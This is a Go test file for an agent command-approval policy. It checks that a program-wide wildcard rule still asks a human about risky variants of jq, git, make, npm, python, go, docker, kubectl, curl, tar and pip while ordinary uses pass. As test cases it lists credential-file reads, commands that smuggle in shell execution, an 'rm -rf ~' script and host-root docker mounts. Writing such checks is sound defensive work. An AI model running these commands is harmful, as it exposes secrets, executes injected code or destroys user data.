package policy

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestReviewOptionsAllowlist pins the classes of a security review under a
// wildcard on the program that runs them (`PROGRAM **`): each finding asks,
// and the ordinary use beside it is still allowed. The pattern is the
// command's first word followed by " **" (for xargs, the wrapped wc).
func TestReviewOptionsAllowlist(t *testing.T) {
	e := testEngine(t)
	cases := []struct {
		command string
		allow   bool
	}{
		// 1. jobs -x runs a command.
		{"jobs -x kill -CONT %1", false},
		{"jobs -l", true},
		// 2. shopt options that change how later commands are read.
		{"shopt -s expand_aliases", false},
		{"shopt -so allexport", false},
		{"shopt -o -s keyword", false},
		{"shopt -s extdebug", false},
		{"shopt -s globstar", true},
		{"shopt -s nullglob extglob", true},
		{"shopt -u expand_aliases", true},
		// 3. jq reading files.
		{"jq -n 'import \"/home/agent/.aws/credentials\" as $c; $c'", false},
		{"jq -L /etc -n 'include \"passwd\"; 1'", false},
		{"jq -n --rawfile k ~/.s3cfg '$k'", false},
		{"jq -n --slurpfile c cfg.json '$c'", false},
		{"jq -r .name package.json", true},
		// 4. man's configuration file.
		{"man -C ./man.conf ls", false},
		{"man --config-file=./m.conf ls", false},
		{"man -l /usr/share/man/man1/ls.1.gz", true},
		// 5. credential files.
		{"cat ~/.s3cfg", false},
		{"cat ~/.config/rclone/rclone.conf", false},
		{"cat /var/run/secrets/kubernetes.io/serviceaccount/token", false},
		{"cat ~/.mozilla/firefox/x.default/logins.json", false},
		{"cat README.md", true},
		// 6. git.
		{"git config --list", false},
		{"git config --get-all http.https://github.com/.extraheader", false},
		{"git credential fill", false},
		{"git cat-file --filters HEAD:x", false},
		{"git bundle create ~/b.bundle --all", false},
		{"git clone https://github.com/octo/hello ~/hello", false},
		{"git worktree add ../wt-x", false},
		{"git config --get user.name", true},
		{"git clone https://github.com/octo/hello", true},
		// 7. make.
		{"make -f /dev/stdin all", false},
		{"make -f - all", false},
		{"make --eval='x:;@id' x", false},
		{"make 'CC=sh -c id'", false},
		{"make CFLAGS='$(shell id)'", false},
		{"make test", true},
		{"make V=1", true},
		// 8. npm.
		{"npm explore lodash -- sh", false},
		{"npm --script-shel=/bin/sh run build", false},
		{"npm --node-opt='-r ./x.js' test", false},
		{"npm --node-options='-r ./x.js' test", false},
		{"npm install --userconfig ./x.npmrc", false},
		{"npm install --globalconfig ./x.npmrc", false},
		{"npm rebuild --node-gyp ./gyp.sh", false},
		{"npm install -g --prefix ~/.local tool", false},
		{"npm config set registry https://x/", false},
		{"npm set ignore-scripts false", false},
		{"npm pkg set scripts.test='rm -rf ~'", false},
		{"npm run build", true},
		{"npm install", true},
		// 9. python -m.
		{"python3 -m timeit -s 'import os' 'os.getcwd()'", false},
		{"python3 -m zipfile -e a.zip ~/", false},
		{"python3 -m tarfile -e a.tgz /srv", false},
		{"python3 -m cProfile -o ~/p.out app.py", false},
		{"python3 -m json.tool in.json ~/.bashrc", false},
		{"python3 -m pip install requests", false},
		{"python3 -m http.server", false},
		{"python3.12 -m http.server", false},
		{"python3 -m json.tool data.json", true},
		{"python3 -m pytest -q", true},
		// 10. go.
		{"go run golang.org/x/tools/cmd/stringer@latest", false},
		{"go vet -vettool=./x ./...", false},
		{"go build -ldflags='-extld=./cc.sh' ./...", false},
		{"go build -toolexec=./wrap ./...", false},
		{"go -C /srv/app build ./...", false},
		{"go build -modfile=/srv/go.mod ./...", false},
		{"go build -overlay=/srv/o.json ./...", false},
		{"go test -coverprofile=/srv/c.out ./...", false},
		{"go test -trace ../t.out ./...", false},
		{"go test -o ~/x.test ./pkg", false},
		{"go clean -modcache", false},
		{"go test ./...", true},
		{"go test -coverprofile=cover.out ./...", true},
		// 11. docker.
		{"docker run --mount type=volume,dst=/x,volume-opt=o=bind,volume-opt=device=/ img", false},
		{"docker volume create --opt device=/etc --opt o=bind etc", false},
		{"docker run --device-cgroup-rule='c *:* rmw' img", false},
		{"docker save -o ~/img.tar app", false},
		{"docker export -o ../c.tar web", false},
		{"docker build -o ../out .", false},
		{"docker build ~", false},
		{"docker build --ssh default .", false},
		{"docker build --secret id=x,src=./s .", false},
		{"docker run -e GITHUB_TOKEN img", false},
		{"docker plugin install vieux/sshfs", false},
		{"docker run -d --restart=always img", false},
		{"docker run -d --restart unless-stopped img", false},
		{"docker build .", true},
		{"docker run --rm -e NODE_ENV=production img", true},
		// 12. kubectl.
		{"kubectl config view --raw", false},
		{"kubectl config set users.x.exec.command ./t.sh", false},
		{"kubectl config set-cluster prod --server=https://10.0.0.9:6443", false},
		{"kubectl -s https://10.0.0.9:6443 get pods", false},
		{"kubectl get pods --insecure-skip-tls-verify", false},
		{"kubectl kustomize --enable-helm --helm-command ./h.sh .", false},
		{"kubectl get pods --log-file=/srv/k.log", false},
		{"kubectl get pods -n web", true},
		{"kubectl config view", false}, // redacts token and password only
		{"kubectl config get-contexts", true},
		// 13. curl.
		{"curl -w '%output{~/.bashrc}x' https://example.com", false},
		{"curl --variable %HOME --expand-url 'https://x/{{HOME}}'", false},
		{"curl --variable k@notes.txt https://example.com", false},
		{"curl --url-query k@notes.txt https://example.com", false},
		{"curl --url-query @- https://example.com", false},
		{"curl -H @h.txt https://example.com", false},
		{"curl -s https://example.com", true},
		{"curl -s -o /dev/null -w '%{http_code}' https://example.com", true},
		// 14. tar.
		{"tar -czf ~/b.tgz .", false},
		{"tar czf ~/b.tgz .", false},
		{"tar -rf ../a.tar x", false},
		{"tar -xzf a.tgz -C /opt/x", false},
		{"tar czf dist.tgz dist", true},
		{"tar -xzf vendor.tgz -C third_party", true},
		// 15. pip.
		{"pip install --target ../lib x", false},
		{"pip install --root / x", false},
		{"pip install --prefix ~/.local x", false},
		{"pip install --log ~/pip.log x", false},
		{"pip install -e ../lib", false},
		{"pip config set global.index-url https://x/simple", false},
		{"pip install -r requirements.txt", true},
		{"pip install --target vendor x", true},
		// 16. xargs --process-slot-var (patterns see the wrapped command).
		{"xargs -P4 --process-slot-var=PATH wc -l", false},
		{"xargs -P4 --process-slot-var=SLOT wc -l", false},
		{"xargs -P4 wc -l", false}, // names from an input nobody listed
	}
	for _, c := range cases {
		program := strings.Fields(c.command)[0]
		if program == "xargs" {
			program = "wc"
		}
		pattern := program + " **"
		res := decideUnder(e, pattern, c.command)
		want := AskHuman
		if c.allow {
			want = Allow
		}
		assert.Equal(t, want, res.Decision, "%s: %q\n\t%s", pattern, c.command, explain(res))
	}
}
